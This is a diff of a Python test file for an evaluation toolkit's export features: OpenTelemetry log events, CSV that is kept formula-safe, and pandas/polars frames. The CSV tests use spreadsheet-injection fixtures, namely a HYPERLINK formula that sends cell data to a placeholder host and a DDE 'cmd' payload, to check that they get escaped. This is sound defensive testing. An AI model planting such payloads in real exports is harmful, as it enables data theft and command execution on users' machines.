@@ -1,14 +1,27 @@
-"""A run's judgments out, and, where a layout can be read, back in."""
+"""A run's judgments out and back in, as events, in spreadsheets and as data frames: nothing is lost or invented."""
 
 from __future__ import annotations
 
+import base64
 import csv
 import io
 import json
+import sys
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
 
 import pytest
+from google.protobuf.json_format import Parse
+from hypothesis import given
+from hypothesis import strategies as st
+from opentelemetry.proto.logs.v1.logs_pb2 import LogsData
 
+import evalkit
 from evalkit.cli import main
+from evalkit.errors import ConfigError
+from evalkit.interop.exporters import column
+from evalkit.runs.records import as_csv, escaped, unescaped
 
 PAIRS = [
     {"id": "1", "prompt": "Why?", "response_a": "b,\n\"q\"", "response_b": "no", "model_a": "m1", "model_b": "m2",
@@ -161,3 +174,240 @@ def test_mistakes_are_one_line(pairs, capsys, words, said):
 def test_scores_have_no_preference(scores, capsys):
     assert main(["export", str(scores.folder), "--to", "alpaca_eval"]) == 1
     assert "has no pairs" in capsys.readouterr().err
+
+
+TRACE, SPAN = "0af7651916cd43dd8448eb211c80319c", "b7ad6b7169203331"
+CASES: list[dict[str, Any]] = [
+    {"id": f"tr-{TRACE}", "prompt": "Name a prime.", "response": "7", "response_id": "chatcmpl-1", "span_id": SPAN},
+    {"id": "2", "prompt": "Name a prime.", "response": "9", "trace_id": f"tr-{TRACE}"},
+    {"id": "3", "prompt": "Name a prime.", "response": "11"},
+]
+
+
+def parsed(line: str) -> tuple[Any, list[tuple[Any, dict[str, Any]]]]:
+    """Return the resource's attributes, and each event with its attributes."""
+    # OTLP writes ids in hexadecimal; JSON of other messages has bytes in base 64.
+    content = json.loads(line)
+    for record in content["resourceLogs"][0]["scopeLogs"][0]["logRecords"]:
+        for name in {"traceId", "spanId"} & record.keys():
+            record[name] = base64.b64encode(bytes.fromhex(record[name])).decode()
+    logs = Parse(json.dumps(content), LogsData()).resource_logs[0]
+
+    def attributes(values: Any) -> dict[str, Any]:
+        return {one.key: getattr(one.value, one.value.WhichOneof("value")) for one in values}
+
+    events = [(record, attributes(record.attributes)) for record in logs.scope_logs[0].log_records]
+    return attributes(logs.resource.attributes), events
+
+
+def exported(folder: Path, *words: str, cases: list[dict[str, Any]] = CASES) -> tuple[Any, Any, Any]:
+    settings = ["judge=simulated/good", "tracking=none", "scoring.bootstrap=50", *words]
+    result = evalkit.run(evalkit.load_config(overrides=settings), folder / "run", cases=cases, overwrite=True)
+    assert main(["export", str(folder / "run"), "--to", "otel", "--output", str(folder / "events.jsonl")]) == 0
+    (line,) = (folder / "events.jsonl").read_text("utf-8").splitlines()
+    return result, *parsed(line)
+
+
+def test_scores_criteria_and_metrics_are_events(tmp_path: Path) -> None:
+    result, resource, events = exported(tmp_path, "mode=pointwise")
+    assert resource["evalkit.config_hash"] == result.manifest["config_hash"]
+    assert {record.event_name for record, _ in events} == {"gen_ai.evaluation.result"}
+    assert all(record.time_unix_nano > 1.7e18 for record, _ in events)
+    verdicts = [(record, one) for record, one in events if one["gen_ai.evaluation.name"] == "verdict"]
+    assert [one["gen_ai.evaluation.score.value"] for _, one in verdicts] == [one.score for one in result.verdicts]
+    ids = [(record.trace_id.hex(), record.span_id.hex(), one.get("gen_ai.response.id")) for record, one in verdicts]
+    assert ids == [(TRACE, SPAN, "chatcmpl-1"), (TRACE, "", None), ("", "", None)]
+    assert all(one["gen_ai.evaluation.explanation"] for _, one in verdicts)
+    first = [one for _, one in events if one.get("evalkit.case.id") == f"tr-{TRACE}"]
+    values = {one["gen_ai.evaluation.name"]: one["gen_ai.evaluation.score.value"] for one in first[1:]}
+    assert values == result.verdicts[0].criteria
+    (mean,) = (one for _, one in events if one["gen_ai.evaluation.name"] == "score/mean")
+    metric = result.metrics["score/mean"]
+    ends = [mean[f"evalkit.{end}"] for end in ("low", "high", "n", "missing")]
+    assert ends == [metric.low, metric.high, metric.n, metric.missing]
+
+
+def test_a_missing_verdict_has_no_score(tmp_path: Path) -> None:
+    pairs = [{"id": one["id"], "prompt": one["prompt"], "response_a": "7", "response_b": "9"} for one in CASES]
+    result, _, events = exported(tmp_path, cases=pairs)
+    verdicts = [one for _, one in events if one["gen_ai.evaluation.name"] == "verdict"]
+    labels = [one["gen_ai.evaluation.score.label"] for one in verdicts]
+    assert labels == [one.winner for one in result.verdicts]
+    unknown = [{**one, "prompt": "Name another."} for one in pairs]
+    _, _, events = exported(tmp_path, "store.mode=read_only", cases=unknown)
+    missing = [one for _, one in events if one["gen_ai.evaluation.name"] == "verdict"]
+    assert {one["error.type"] for one in missing} == {"missing"}
+    assert not any(key.startswith("gen_ai.evaluation.score") for one in missing for key in one)
+
+
+@pytest.mark.parametrize("layout", ["mlflow-assessments"])
+def test_a_run_without_traces_has_none_to_assess(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], layout: str
+) -> None:
+    exported(tmp_path, "mode=pointwise", cases=CASES[2:])
+    assert main(["export", str(tmp_path / "run"), "--to", layout]) == 1
+    assert "no case came from a trace" in capsys.readouterr().err
+
+
+FORMULA = '=HYPERLINK("http://x.test?"&A1,"open")'
+ROWS = [
+    {
+        "id": "=1+1",
+        "prompt": FORMULA,
+        "response_a": "+cmd|' /C calc'!A0",
+        "response_b": "@SUM(1)",
+        "winner": "A",
+        "order": order,
+        "text": "\t=x",
+        "judge": "-j",
+        "label": "A",
+    }
+    for order in ("ab", "ba")
+]
+
+
+@pytest.fixture
+def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    monkeypatch.chdir(tmp_path)
+    Path("judged.jsonl").write_text("".join(json.dumps(row) + "\n" for row in ROWS), "utf-8")
+    words = ["import", "generic", "judged.jsonl", "tracking=none", "scoring.bootstrap=20", "hydra.run.dir=run"]
+    assert main(words) == 0
+    return tmp_path / "run"
+
+
+def cells(file: Path) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(file.read_text("utf-8"), newline="")))
+
+
+def test_an_export_has_no_formulas_and_comes_back(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["export", str(run), "--to", "csv", "--output", "out.csv"]) == 0
+    found = cells(Path("out.csv"))
+    texts = [cell for row in found for cell in row if cell and cell[0] in "=+-@\t\r\n"]
+    assert [cell for cell in texts if not cell.lstrip("-").replace(".", "").isdigit()] == []
+    assert "'" + FORMULA in found[1]
+    words = ["import", "generic", "out.csv", "tracking=none", "scoring.bootstrap=20", "hydra.run.dir=again"]
+    assert main(words) == 0
+    before, after = (json.loads((folder / "cases.jsonl").read_text("utf-8")) for folder in (run, Path("again")))
+    for case in (before, after):
+        case["responses"] = [response["text"] for response in case["responses"]]
+    assert before == after
+    assert (
+        json.loads(Path("again/metrics.json").read_text())["metrics"]
+        == json.loads((run / "metrics.json").read_text())["metrics"]
+    )
+
+
+def test_raw_keeps_texts(run: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    assert main(["export", str(run), "--to", "csv", "--raw", "--output", "out.csv"]) == 0
+    assert FORMULA in cells(Path("out.csv"))[1]
+    assert main(["export", str(run), "--to", "parquet", "--raw"]) == 1
+    assert "--raw: is only for csv" in capsys.readouterr().err
+
+
+def test_labels_of_an_escaped_id_are_read(run: Path) -> None:
+    Path("labels.csv").write_text(
+        as_csv(["id", "annotator", "label"], [{"id": "=1+1", "annotator": "@ann", "label": "B"}])
+    )
+    assert "'=1+1" in Path("labels.csv").read_text("utf-8")
+    assert main(["label", "run", "labels.csv"]) == 0
+    (case,) = [json.loads(line) for line in (run / "cases.jsonl").read_text("utf-8").splitlines()]
+    assert case["labels"] == {"@ann": "B"}
+
+
+def test_a_comparison_has_no_formulas(run: Path) -> None:
+    words = ["import", "generic", "judged.jsonl", "tracking=none", "--judge", "=2+2", "hydra.run.dir=other"]
+    Path("judged.jsonl").write_text(
+        "".join(json.dumps({k: v for k, v in row.items() if k != "judge"}) + "\n" for row in ROWS), "utf-8"
+    )
+    assert main(words) == 0
+    assert main(["compare", "run", "other"]) == 0
+    names = {cell for row in cells(Path("comparison.csv")) for cell in row if "2+2" in cell}
+    assert names == {"'=2+2"}
+
+
+@given(st.text(alphabet="'=+-@\t\r\n＝a1.e", max_size=8) | st.floats(allow_nan=False) | st.integers() | st.none())
+def test_escaping_can_be_undone(value: object) -> None:
+    shown = escaped(value)
+    assert unescaped(shown) == value
+    if not isinstance(value, str):
+        assert shown == value
+    elif shown[:1] in tuple("=+-@\t\r\n＝"):
+        float(shown)  # numbers alone stay as they are
+
+
+PAIR = {"prompt": "Q?", "response_a": "yes", "response_b": "no", "model_a": "m", "label": "A", "kind": 1}
+LIST = {"prompt": "Q?", "responses": [{"text": "a", "model": "m"}, {"text": "b"}, {"text": "c \ud800"}]}
+GRADED = {"prompt": "Q?", "response": "yes", "label": 4, "labels": {"ann": 4, "bob": 3}, "tags": ["x", 1]}
+RUNS = {
+    "pairs": ([], [{**PAIR, "id": "1"}, {**PAIR, "id": "2", "label": None, "kind": "two"}]),
+    "lists": (["mode=listwise"], [{**LIST, "id": "1"}]),
+    "scores": (["mode=pointwise"], [{**GRADED, "id": "1"}, {"id": "2", "prompt": "?", "response": "no"}]),
+}
+
+
+@pytest.fixture(scope="module")
+def frame_runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
+    words = ["judge=simulated/good", "tracking=none", "scoring.bootstrap=0", "store.mode=off"]
+    return {
+        name: evalkit.run(
+            evalkit.load_config(overrides=[*words, *mode]), tmp_path_factory.mktemp("frame_runs") / name, cases=cases
+        )
+        for name, (mode, cases) in RUNS.items()
+    }
+
+
+@pytest.mark.parametrize("name", RUNS)
+def test_cases_can_be_judged_again(frame_runs: dict[str, Any], name: str, tmp_path: Any) -> None:
+    run = frame_runs[name]
+    for frame in (run.to_pandas("cases"), run.to_polars("cases")):
+        again = evalkit.run(run.config, tmp_path / type(frame).__module__, cases=frame)
+        kept = [replace(case, metadata={}) for case in again.cases]
+        known = [replace(case, metadata={}) for case in run.cases]
+        if name == "lists":  # an unpaired surrogate cannot be in a frame
+            assert [len(case.responses) for case in kept] == [3]
+        else:
+            assert kept == known
+
+
+@pytest.mark.parametrize("table", ["cases", "judgments", "verdicts", "metrics"])
+def test_both_libraries_have_the_same_table(frame_runs: dict[str, Any], table: str) -> None:
+    for run in frame_runs.values():
+        pandas, polars = run.to_pandas(table), run.to_polars(table)
+        assert list(pandas.columns) == polars.columns
+        rows = [{name: None if value != value else value for name, value in row.items()} for row in polars.to_dicts()]
+        assert pandas.astype(object).where(pandas.notna(), None).to_dict("records") == rows
+        assert len(pandas) == len(getattr(run, table))
+
+
+def test_a_missing_verdict_has_no_value(frame_runs: dict[str, Any]) -> None:
+    run = frame_runs["scores"]
+    first, *rest = run.verdicts
+    frame = replace(run, verdicts=(replace(first, score=None, reason="missing"), *rest)).to_polars()
+    assert frame["score"].to_list() == [None, *(one.score for one in rest)]
+    assert frame["reason"][0] == "missing"
+    metrics = run.to_pandas("metrics").set_index("metric")
+    assert {name for name, one in run.metrics.items() if one.value is None} == set(metrics[metrics.value.isna()].index)
+
+
+@pytest.mark.parametrize(
+    ("values", "same"),
+    [
+        ([1, None, 2], [1, None, 2]),
+        ([1, 2.5], [1.0, 2.5]),
+        ([True, None], [True, None]),
+        ([True, 1], ["True", "1"]),
+        ([2**70, 1], [str(2**70), "1"]),
+        (["a", 1], ["a", "1"]),
+        ([None], [None]),
+    ],
+)
+def test_a_column_has_one_type(values: list[Any], same: list[Any]) -> None:
+    assert [(type(one), one) for one in column(values)] == [(type(one), one) for one in same]
+
+
+def test_mistakes_in_frames_are_one_line(frame_runs: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
+    with pytest.raises(ConfigError, match="no table 'verdict'; did you mean 'verdicts'"):
+        frame_runs["pairs"].to_pandas("verdict")
+    monkeypatch.setitem(sys.modules, "polars", None)
+    with pytest.raises(ConfigError, match="pip install polars"):
+        frame_runs["pairs"].to_polars()
